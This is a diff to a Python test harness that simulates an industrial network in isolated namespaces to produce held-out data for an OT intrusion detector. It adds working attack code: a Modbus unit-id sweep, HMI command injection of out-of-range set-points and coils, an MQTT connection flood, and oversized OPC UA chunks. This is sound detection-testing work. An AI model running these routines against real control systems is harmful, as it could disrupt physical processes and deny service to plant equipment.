@@ -58,6 +58,25 @@ Then the attacks, one after another (``ATTACKS`` in order; fractions in ``TIMELI
    sessions on it with asyncua (CreateSession; never activated nor closed).
 9. ``opcua_request_flood``: rogue opens one session and sends 5000 Read
    requests, 50 in flight at a time.
+10. ``modbus_unit_sweep``: rogue reads HR 0 of unit ids 1-247 behind the
+    gateway, pipelined on one raw socket (a multi-RTU discovery scan; the
+    gateway answers units 1-4), after its other Modbus attacks in the same
+    minute (past the engine's key budget of a source).
+11. ``hmi_injection`` (the hmi role, while the rogue floods OPC UA): the HMI,
+    compromised, writes out-of-range set-points and coils to RTUs 2-4, which
+    it only ever read, on the connection it has polled on since the start
+    (FC 6 HR 1 and HR 10-13, FC 16 HR 2..5, FC 5 coil 20, FC 15 coils 24..31).
+12. ``mqtt_connect_flood`` (bot, a second attacker host): 300 MQTT
+    connections, each CONNECT with a client id of its own, CONNACK,
+    DISCONNECT (raw sockets).
+13. ``opcua_oversized_chunks``: rogue opens 20 raw connections: Hello asking
+    for 64 KiB buffers, then a MSG chunk of 256 KiB (past what was
+    negotiated); asyncua drops each.
+
+Windows of different roles may overlap (the rogue's sequence overruns its
+timeline on a loaded machine); the harness attributes evidence by window.
+The capture is filtered to the scenario's hosts (``TCPDUMP_FILTER``): the
+namespaces' IGMP reports (the historian joins a multicast group) stay out.
 
 The same file is the program that runs inside each namespace (``--role``).
 """
@@ -99,10 +118,11 @@ HOSTS: tuple[Host, ...] = (
     Host("rogue", "10.50.0.66", "02:00:0a:32:00:42", "attacker: Modbus injection and read sweep, MQTT publish and "
          "malformed floods, OPC UA connection and request floods"),
     Host("sensor", "10.50.0.71", "02:00:0a:32:00:47", "MQTT 3.1.1 publisher plant/rtu/temperature, level"),
+    Host("bot", "10.50.0.77", "02:00:0a:32:00:4d", "attacker: an MQTT connection flood, a client id per connection"),
 )
 IP = {h.name: h.ip for h in HOSTS}
 SERVERS = ("gw", "broker", "opcua")
-CLIENTS = ("hmi", "ews", "sensor", "historian", "scada", "rogue")
+CLIENTS = ("hmi", "ews", "sensor", "historian", "scada", "rogue", "bot")
 
 MODBUS_PORT, MQTT_PORT, OPCUA_PORT = 502, 1883, 4840
 OPCUA_URL = f"opc.tcp://{IP['opcua']}:{OPCUA_PORT}/otwatch/heldout"
@@ -126,6 +146,14 @@ SENSOR_FLOOD_PUBLISHES = 10000
 SENSOR_FLOOD_PAYLOAD = 1024
 SENSOR_FLOOD_TOPIC = "plant/rtu/setpoint"
 QUERY_FLOOD_REQUESTS = 4000
+UNIT_SWEEP_IDS = range(1, 248)
+"""Every unit id a Modbus/TCP gateway may route to (0 is broadcast, 248-255 reserved)."""
+CONNECT_FLOOD_CLIENTS = 300
+OVERSIZED_CONNECTIONS = 20
+OVERSIZED_CHUNK = 1 << 18
+HMI_INJECTION_UNITS = (2, 3, 4)
+MULTICAST_GROUP = "239.192.0.1"
+"""The historian joins it (as a host listening for a vendor's discovery would): its IGMP report is not captured."""
 OPCUA_CONNECTIONS = 300
 OPCUA_READS = 5000
 OPCUA_SESSIONS = 120
@@ -147,9 +175,14 @@ TIMELINE = {
     "opcua_connection_flood": 0.73,
     "opcua_session_flood": 0.78,
     "opcua_request_flood": 0.84,
+    "hmi_injection": 0.75,      # more than write_burst's window after the last benign set-point
+    "modbus_unit_sweep": 0.88,
+    "mqtt_connect_flood": 0.90,
+    "opcua_oversized_chunks": 0.92,
 }
 ATTACKS = ("sensor_flood", "modbus_injection", "rtu_read_sweep", "modbus_query_flood", "mqtt_publish_flood", "mqtt_client_flood",
-           "mqtt_malformed_flood", "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood")
+           "mqtt_malformed_flood", "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood",
+           "hmi_injection", "modbus_unit_sweep", "mqtt_connect_flood", "opcua_oversized_chunks")
 
 log = logging.getLogger("heldout-scenarios")
 
@@ -177,6 +210,9 @@ def write_mosquitto_config(work: Path) -> Path:
 TOOLS = ("ip", "tcpdump", "mosquitto")
 WORK_PREFIX = "otwatch-heldout-"
 TCPDUMP_EXTRA = ("-B", "65536")
+TCPDUMP_FILTER = ("arp", "or", "(ip", "and", "src", "net", "10.50.0.0/24", "and", "dst", "net", "10.50.0.0/24)")
+"""Only the scenario's hosts' own traffic: the kernels' IGMP membership reports (from 0.0.0.0 while an interface
+comes up, to 224.0.0.22 when a host joins a group) come and go with timing, and a policy denies them."""
 SERVER_ROLES = ("gw", "opcua")
 LISTEN = (("broker", "broker", "tcp", MQTT_PORT), ("gw", "gw", "tcp", MODBUS_PORT),
           ("opcua", "opcua", "tcp", OPCUA_PORT))
@@ -243,15 +279,32 @@ async def hmi_main(args) -> None:
     period = 1.0 / POLL_HZ
     next_t = time.time()
     writes = [("hmi_write_1", 215), ("hmi_write_2", 220)]
+    inject = True
     while time.time() + period < args.end:
         for unit in RTUS:
             await c.read_holding_registers(0, count=10, device_id=unit)
             await c.read_coils(0, count=16, device_id=unit)
         if writes and time.time() >= at(args, writes[0][0]):
             await c.write_register(1, writes.pop(0)[1], device_id=1)
+        if inject and time.time() >= at(args, "hmi_injection"):
+            inject = False
+            with window("hmi_injection"):
+                await hmi_injection(c)
         next_t += period
         await asyncio.sleep(max(0.0, next_t - time.time()))
     c.close()
+
+
+async def hmi_injection(c) -> None:
+    """The HMI, compromised, injects commands on its own connection: out-of-range set-points and coil commands
+    to the RTUs it only ever read (CIC Modbus 2023's command injection from a compromised HMI)."""
+    for unit in HMI_INJECTION_UNITS:
+        await c.write_register(1, 65535, device_id=unit)
+        await c.write_registers(2, [0xFFFF, 0x8000, 0x7FFF, 0xDEAD], device_id=unit)
+        for address in range(10, 14):
+            await c.write_register(address, 0, device_id=unit)
+        await c.write_coil(20, True, device_id=unit)
+        await c.write_coils(24, [True] * 8, device_id=unit)
 
 
 async def ews_main(args) -> None:
@@ -308,12 +361,16 @@ def role_sensor(args) -> None:
 
 
 def role_historian(args) -> None:
+    mc = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)      # a multicast listener: IGMP reports on the wire
+    mc.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
+                  socket.inet_aton(MULTICAST_GROUP) + socket.inet_aton(IP["historian"]))
     c = _mqtt_client("historian")
     plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
     c.subscribe("plant/#", 0)
     plant.wait_until(args.end - 0.3)
     c.disconnect()
     c.loop_stop()
+    mc.close()
 
 
 async def scada_main(args) -> None:
@@ -464,13 +521,72 @@ async def opcua_request_flood(args) -> None:
             done += OPCUA_IN_FLIGHT
 
 
+def modbus_unit_sweep(args) -> None:
+    """Read HR 0 of every unit id behind the gateway, pipelined on one connection (a multi-RTU discovery scan);
+    the gateway answers the units it has and drops the rest."""
+    with socket.create_connection((IP["gw"], MODBUS_PORT), timeout=2) as s:
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for tid, unit in enumerate(UNIT_SWEEP_IDS, 1):
+            s.sendall(struct.pack("!HHHBBHH", tid, 0, 6, unit, 3, 0, 1))
+            time.sleep(0.002)
+        s.settimeout(0.3)
+        try:
+            while s.recv(4096):
+                pass
+        except (socket.timeout, ConnectionResetError):
+            pass
+
+
+def mqtt_connect_flood(args) -> None:
+    """300 CONNECTs, each with a client id of its own, on connections of their own (CONNECT, CONNACK,
+    DISCONNECT): MQTTset's and MQTT-IoT-IDS2020's connection floods exhaust a broker's client table."""
+    for i in range(CONNECT_FLOOD_CLIENTS):
+        cid = f"dev-{i:04d}".encode()
+        body = _mqtt_str(b"MQTT") + bytes([4, 0x02]) + struct.pack("!H", 30) + _mqtt_str(cid)
+        with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
+            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            s.sendall(bytes([0x10, len(body)]) + body)
+            s.recv(4)
+            s.sendall(b"\xe0\x00")
+
+
+def opcua_oversized_chunks(args) -> None:
+    """Hello (asking for 64 KiB buffers), then a MSG chunk of 256 KiB on each of ``OVERSIZED_CONNECTIONS``
+    connections: chunks past the buffer the server acknowledged (OPC UA Part 6 §7.1.2.3), the resource
+    exhaustion the OPC UA dataset's DoS family includes; asyncua drops each connection."""
+    url = OPCUA_URL.encode()
+    hello_body = struct.pack("<IIIIIi", 0, 65536, 65536, 0, 0, len(url)) + url
+    hello = b"HELF" + struct.pack("<I", 8 + len(hello_body)) + hello_body
+    chunk = OVERSIZED_CHUNK
+    msg = b"MSGF" + struct.pack("<II", chunk, 1) + bytes(range(256)) * ((chunk - 12) // 256) + bytes((chunk - 12) % 256)
+    for _ in range(OVERSIZED_CONNECTIONS):
+        with socket.create_connection((IP["opcua"], OPCUA_PORT), timeout=2) as s:
+            s.sendall(hello)
+            s.recv(64)
+            try:
+                s.sendall(msg)
+                s.settimeout(0.2)
+                while s.recv(4096):
+                    pass
+            except (socket.timeout, ConnectionResetError, BrokenPipeError):
+                pass
+
+
+def role_bot(args) -> None:
+    plant.wait_until(at(args, "mqtt_connect_flood"))
+    with window("mqtt_connect_flood"):
+        mqtt_connect_flood(args)
+        time.sleep(0.2)
+
+
 def role_rogue(args) -> None:
     for name, fn in (("modbus_injection", modbus_injection), ("rtu_read_sweep", rtu_read_sweep),
                      ("modbus_query_flood", modbus_query_flood),
                      ("mqtt_publish_flood", mqtt_publish_flood), ("mqtt_client_flood", mqtt_client_flood),
                      ("mqtt_malformed_flood", mqtt_malformed_flood),
                      ("opcua_connection_flood", opcua_connection_flood), ("opcua_session_flood", opcua_session_flood),
-                     ("opcua_request_flood", opcua_request_flood)):
+                     ("opcua_request_flood", opcua_request_flood), ("modbus_unit_sweep", modbus_unit_sweep),
+                     ("opcua_oversized_chunks", opcua_oversized_chunks)):
         plant.wait_until(at(args, name))
         with window(name):
             r = fn(args)
@@ -521,6 +637,8 @@ def main(argv: list[str] | None = None) -> int:
         role_historian(args)
     elif role == "rogue":
         role_rogue(args)
+    elif role == "bot":
+        role_bot(args)
     else:
         raise SystemExit(f"unknown role {role}")
     return 0
